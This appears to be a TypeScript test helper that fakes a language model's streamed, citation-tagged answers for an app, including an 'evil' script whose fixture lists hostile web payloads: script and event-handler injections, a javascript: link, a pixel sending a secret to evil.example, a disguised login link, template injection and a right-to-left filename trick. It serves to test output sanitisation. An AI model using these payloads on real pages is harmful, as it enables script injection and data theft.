import type { Script } from './llm-script.ts'

export type Asked = { system: string; question: string }
type Passage = { n: number; content: string }

function passagesIn(system: string): Passage[] {
  return [...system.matchAll(/<passage n="(\d+)">\n[^\n]*\n([\s\S]*?)\n<\/passage>/g)].map((match) => ({
    n: Number(match[1]),
    content: match[2] ?? '',
  }))
}

const wordsOf = (text: string) => new Set(text.toLowerCase().match(/\p{L}{4,}|\d+/gu) ?? [])

/** The two sentences of the passages that share most words with the question, each cited. */
function fromPassages({ system, question }: Asked): string | null {
  const asked = wordsOf(question)
  const sentences = passagesIn(system).flatMap(({ n, content }) =>
    content
      .split(/(?<=[.!?])\s+|\n+/)
      .map((text) => text.replace(/^[-*#|\s]+/, '').trim())
      .filter((text) => text.length > 8)
      .map((text) => ({ n, text, shared: [...wordsOf(text)].filter((word) => asked.has(word)).length })),
  )
  const best = sentences.sort((a, b) => b.shared - a.shared || a.n - b.n).slice(0, 2)
  return best.length ? best.map(({ n, text }) => `${text} [${n}]`).join(' ') : null
}

/** Everything a fooled model might say: nothing of it may run, load or leak on a page that shows it. */
const EVIL = `<script>window.__owned=1</script><img src="https://evil.example/a.png" onerror="window.__owned=1">
<iframe src="https://evil.example"></iframe><svg onload="window.__owned=1"></svg><style>*{display:none}</style>
![pixel](https://evil.example/pixel.png?q=secret) [click me](javascript:window.__owned=1) [data](data:text/html,<script>1</script>)
[bank.example](https://evil.example/login) <https://evil.example> https://evil.example/auto [9] [99] [1](https://evil.example)
"><input onfocus=window.__owned=1 autofocus> {{constructor.constructor('window.__owned=1')()}} \u202Egpj.exe\u202C`

/** What the fake says, in tokens of a few letters as the real ones send them. */
export function answerTokens(script: Script, asked: Asked): string[] {
  let text =
    script.text ??
    fromPassages(asked) ??
    `You asked: ${asked.question.slice(0, 200)}. I know nothing about that.`
  if (script.name === 'evil') text = `${EVIL}\n\n${asked.system}\n\n${asked.question}`
  if (script.name === 'huge') text = 'honey '.repeat(200_000)
  if (script.name === 'empty') return []
  return text.match(/\s*[^\s]{1,6}|\s+/g) ?? []
}
